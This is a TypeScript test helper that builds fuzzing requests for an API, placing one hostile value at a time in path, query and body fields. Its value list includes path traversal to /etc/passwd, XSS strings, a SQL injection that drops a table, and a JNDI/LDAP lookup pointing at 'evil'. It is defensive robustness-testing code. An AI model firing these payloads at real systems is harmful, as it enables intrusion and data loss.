import type { Operation } from '@recollect/contract';
import type { TSchema } from 'typebox';

export interface HostileRequest {
  name: string;
  target: string;
  body: unknown;
}

interface Schema {
  properties?: Record<string, Schema>;
  anyOf?: Schema[];
  items?: Schema;
}

/** Text values that have broken other services, for addresses and bodies. */
const values = (marker: string): unknown[] => [
  ...[
    '',
    ' ',
    '\0',
    'NaN',
    '-1',
    '1.5',
    'abc',
    '99999999999999999999',
    '1e309',
    '%',
    '%00',
    '%ff',
    '..',
    '../../etc/passwd',
  ],
  `${marker}`,
  `javascript:alert('${marker}')`,
  `data:text/html,<script>${marker}</script>`,
  `http://${marker}@evil.com:99999/`,
  'http://[::1',
  `<script>alert(1)</script><img src=x onerror=alert('${marker}')>`,
  `' or 1=1; drop table memories; -- ${marker}`,
  `"${marker}" NEAR(a b) AND * OR NOT ^ : - {x} col:`,
  '"""""" ((((( ***** -----',
  'site: tag:"" before:9999-99-99 after: source:\\',
  '\u202e\u2066\u200f\ufeff\u0000\u0007',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(50),
  'é'.normalize('NFD').repeat(100),
  'Z\u0351\u036b\u0343'.repeat(200),
  '2026-02-30',
  '0000-00-00T00:00:00Z',
  '+275761-09-13T00:00:00.000Z',
  `$\{jndi:ldap://evil}{{7*7}}<%= 1 %>`,
];

/** Values of other types, and a very long text, for bodies. */
const odd = (): unknown[] => [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  -0,
  [],
  {},
  [[]],
  [null],
  { length: 1 },
  { constructor: { prototype: { x: 1 } } },
  { toString: 'x' },
  Array.from({ length: 1_000 }, () => 'x'),
  'x'.repeat(2 * 1024 * 1024),
];

/** Requests with one hostile value each, for every parameter and field in the schemas of an operation. */
export function hostileValues(operation: Operation, marker: string): HostileRequest[] {
  const { path, parameters, query, body, method } = operation;
  const bare = path.replace(/\{\w+\}/g, 'x');
  const inPath = namesOf(parameters).flatMap((name) =>
    // Clients remove dot segments from a path before they send it.
    texts(marker)
      .filter((value) => value !== '..')
      .map((value) => ({
        name: `${name} in the path`,
        target: path.replace(`{${name}}`, encodeURIComponent(value) || '%20'),
        body: method === 'GET' ? undefined : {},
      })),
  );
  const inQuery = namesOf(query).flatMap((name) =>
    texts(marker).map((value) => ({
      name: `${name} in the query`,
      target: `${bare}?${name}=${encodeURIComponent(value)}`,
      body: undefined,
    })),
  );
  const inBody = namesOf(body).flatMap((name) =>
    [...values(marker), ...odd()].map((value) => ({
      name: `${name} in the body`,
      target: bare,
      body: { ...base(path), [name]: value },
    })),
  );
  const whole =
    method === 'GET' ? [] : odd().map((value) => ({ name: 'as the whole body', target: bare, body: value }));
  return [...inPath, ...inQuery, ...inBody, ...whole];
}

/** Valid values for the other fields, so that the hostile one is reached. */
function base(path: string): Record<string, unknown> {
  if (path.endsWith('/capture')) return { pageText: 'text beside something hostile' };
  if (path.endsWith('/query')) return { query: 'tea' };
  return {};
}

function texts(marker: string): string[] {
  return values(marker).filter((value) => typeof value === 'string');
}

/** The field names of a schema, including every branch of a union. */
function namesOf(schema: TSchema | undefined): string[] {
  const { properties = {}, anyOf = [], items } = (schema ?? {}) as Schema;
  const names = [
    ...Object.keys(properties),
    ...[...anyOf, ...(items === undefined ? [] : [items])].flatMap((branch) => namesOf(branch as TSchema)),
  ];
  return [...new Set(names)];
}
